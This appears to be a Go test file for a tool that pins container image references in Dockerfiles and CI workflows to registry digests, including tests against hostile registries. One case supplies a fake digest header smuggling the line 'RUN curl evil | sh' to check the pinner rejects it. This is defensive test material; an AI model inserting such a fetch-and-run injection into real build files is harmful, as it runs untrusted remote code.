package targets

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/stretchr/testify/require"

	"github.com/foopack/foopack/magefiles/internal/command"
	"github.com/foopack/foopack/magefiles/internal/image"
	"github.com/foopack/foopack/magefiles/internal/localregistry"
	"github.com/foopack/foopack/magefiles/internal/view"
	"github.com/foopack/foopack/magefiles/internal/workspace"
)

// pinning is a workspace with files, all known to git, and a registry of images, for each of which the digest is known.
func pinning(t *testing.T, wrap func(http.Handler) http.Handler, files map[string]string) (pin func() (string, error), w *workspace.Workspace, host string, digests map[string]string) {
	server, err := localregistry.Start(t.TempDir(), wrap)
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, server.Close()) })
	digests = map[string]string{}
	for _, ref := range []string{"o/pixi:1", "o/base:2", "o/db:latest"} {
		img, err := random.Index(64, 1, 2)
		require.NoError(t, err)
		tag, err := name.NewTag(server.Host + "/" + ref)
		require.NoError(t, err)
		require.NoError(t, remote.WriteIndex(tag, img))
		sum, err := img.Digest()
		require.NoError(t, err)
		digests[ref] = sum.String()
	}
	w = aWorkspace(t, "")
	for file, text := range files {
		write(t, w.Root, file, strings.ReplaceAll(text, "HOST", server.Host))
	}
	runner := command.NewSystem(os.Environ(), nil)
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}} {
		require.NoError(t, runner.Run(t.Context(), command.Cmd{Name: "git", Args: args, Dir: w.Root}))
	}
	return func() (string, error) {
		var out bytes.Buffer
		a := &app{dir: w.Root, runner: runner, view: &view.View{Out: &out, Err: &out}}
		err := a.pinImages(t.Context(), w, &image.Registry{})
		return out.String(), err
	}, w, server.Host, digests
}

func read(t *testing.T, w *workspace.Workspace, file string) string {
	text, err := os.ReadFile(filepath.Join(w.Root, filepath.FromSlash(file)))
	require.NoError(t, err)
	return string(text)
}

// What is pinned once is not asked for again, and no byte but the digests is another one.
func TestImagesArePinned(t *testing.T) {
	files := map[string]string{
		"app/Dockerfile":           "# hi\r\nARG P=\"HOST/o/pixi:1\"\r\nFROM --platform=$BUILDPLATFORM ${P} AS x\r\nFROM HOST/o/base:2\r\n",
		"tools/dev.Dockerfile":     "FROM HOST/o/base:2 AS x\nCOPY --from=HOST/o/db /x /x\n",
		".github/workflows/ci.yml": "jobs:\n  a:\n    container: HOST/o/pixi:1 # ours\n    services: {db: {image: 'HOST/o/db:latest'}}\n    steps:\n      - uses: docker://HOST/o/base:2\n",
		"notes.md":                 "FROM HOST/o/base:2\n",
	}
	pin, w, host, digests := pinning(t, nil, files)
	require.NoError(t, os.Chmod(filepath.Join(w.Root, "app", "Dockerfile"), 0o640))
	a := &app{dir: w.Root, runner: command.NewSystem(os.Environ(), nil)}
	findings := a.examinePins(t.Context())
	require.Len(t, findings, 1)
	require.Equal(t, "the digest of 7 images", findings[0].What)
	require.Contains(t, findings[0].For, ": .github/workflows/ci.yml, app/Dockerfile, tools/dev.Dockerfile")
	out, err := pin()
	require.NoError(t, err, out)
	require.Empty(t, a.examinePins(t.Context()))
	for file, text := range files {
		want := strings.ReplaceAll(text, "HOST", host)
		if file != "notes.md" {
			want = strings.ReplaceAll(want, "o/db /x", "o/db:latest /x")
			for ref, digest := range digests {
				want = strings.ReplaceAll(want, ref, ref+"@"+digest)
			}
		}
		require.Equal(t, want, read(t, w, file))
	}
	info, err := os.Stat(filepath.Join(w.Root, "app", "Dockerfile"))
	require.NoError(t, err)
	require.EqualValues(t, 0o640, info.Mode().Perm())
	require.Contains(t, out, "✓ app/Dockerfile:2: "+host+"/o/pixi:1 is pinned to "+digests["o/pixi:1"])
	out, err = pin()
	require.NoError(t, err)
	require.Empty(t, out)
}

// A registry that cannot be asked leaves its images as they are; an image that is not there is an error, and the rest is
// pinned all the same.
func TestImagesThatCannotBePinned(t *testing.T) {
	files := map[string]string{
		"app/Dockerfile":           "ARG V=1\nFROM HOST/o/base:2\nFROM 127.0.0.1:1/far/away:1\nFROM HOST/o/pixi:$V\n",
		".github/workflows/ci.yml": "jobs:\n  a:\n    container: HOST/o/gone:1\n  b:\n    container: Not A Name\n",
	}
	pin, w, host, digests := pinning(t, nil, files)
	out, err := pin()
	require.ErrorContains(t, err, "2 images cannot be pinned")
	require.Equal(t, strings.ReplaceAll(files[".github/workflows/ci.yml"], "HOST", host), read(t, w, ".github/workflows/ci.yml"))
	require.Equal(t, strings.ReplaceAll(strings.Replace(files["app/Dockerfile"], "base:2", "base:2@"+digests["o/base:2"], 1), "HOST", host), read(t, w, "app/Dockerfile"))
	require.Contains(t, out, "○ app/Dockerfile:3: 127.0.0.1:1/far/away:1 is not pinned: ")
	require.Contains(t, out, "○ app/Dockerfile, line 4: "+host+"/o/pixi:$V: it is put together of variables")
}

// A registry that lies about digests, sends what is no digest, or never ends is not believed; links and files that git does not
// know are left.
func TestHostileRegistriesPinNothing(t *testing.T) {
	planted := "sha256:" + strings.Repeat("a", 64)
	for name, answer := range map[string]func(w http.ResponseWriter, body []byte) (pinned bool){
		"another digest in its answer": func(w http.ResponseWriter, body []byte) bool {
			w.Header().Set("Docker-Content-Digest", planted)
			_, _ = w.Write(body)
			return true // to the digest of the bytes
		},
		"text for a digest": func(w http.ResponseWriter, body []byte) bool {
			w.Header().Set("Docker-Content-Digest", "sha256:\nRUN curl evil | sh")
			_, _ = w.Write(body)
			return true
		},
		"an endless manifest": func(w http.ResponseWriter, _ []byte) bool {
			_, _ = io.CopyN(w, endless{}, 64<<20)
			return false
		},
		"a page": func(w http.ResponseWriter, _ []byte) bool {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, "<html>log in</html>")
			return false
		},
		"a refusal": func(w http.ResponseWriter, _ []byte) bool { w.WriteHeader(http.StatusForbidden); return false },
	} {
		t.Run(name, func(t *testing.T) {
			want := false
			pin, w, host, digests := pinning(t, func(next http.Handler) http.Handler {
				return http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
					if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/manifests/") {
						next.ServeHTTP(rw, r)
						return
					}
					inner := &buffered{header: http.Header{}}
					next.ServeHTTP(inner, r)
					for k := range inner.header {
						rw.Header().Set(k, inner.header.Get(k))
					}
					rw.Header().Del("Content-Length")
					want = answer(rw, inner.body.Bytes())
				})
			}, map[string]string{"Dockerfile": "FROM HOST/o/base:2\n"})
			_, err := pin()
			require.NoError(t, err)
			text := "FROM " + host + "/o/base:2"
			if want {
				text += "@" + digests["o/base:2"]
			}
			require.Equal(t, text+"\n", read(t, w, "Dockerfile"))
		})
	}

	pin, w, _, _ := pinning(t, nil, map[string]string{"real": "FROM HOST/o/base:2\n"})
	require.NoError(t, os.Symlink("../real", filepath.Join(w.Root, "app", "Dockerfile")))
	require.NoError(t, command.NewSystem(os.Environ(), nil).Run(t.Context(), command.Cmd{Name: "git", Args: []string{"add", "app"}, Dir: w.Root}))
	write(t, w.Root, "mine/Dockerfile", read(t, w, "real"))
	before := read(t, w, "real")
	out, err := pin()
	require.NoError(t, err)
	require.Empty(t, out)
	require.Equal(t, before, read(t, w, "real"))
	require.Equal(t, before, read(t, w, "mine/Dockerfile"))
}

func TestPinningStops(t *testing.T) {
	pin, w, _, _ := pinning(t, nil, map[string]string{"Dockerfile": "FROM HOST/o/base:2\n"})
	before := read(t, w, "Dockerfile")
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(context.Canceled)
	var out bytes.Buffer
	a := &app{dir: w.Root, runner: command.NewSystem(os.Environ(), nil), view: &view.View{Out: &out, Err: &out}}
	require.Error(t, a.pinImages(ctx, w, &image.Registry{}))
	require.Equal(t, before, read(t, w, "Dockerfile"))
	_, err := pin()
	require.NoError(t, err)
}

type endless struct{}

func (endless) Read(p []byte) (int, error) { return copy(p, bytes.Repeat([]byte{'{'}, len(p))), nil }

// buffered keeps an answer.
type buffered struct {
	header http.Header
	body   bytes.Buffer
}

func (b *buffered) Header() http.Header         { return b.header }
func (b *buffered) WriteHeader(int)             {}
func (b *buffered) Write(p []byte) (int, error) { return b.body.Write(p) }
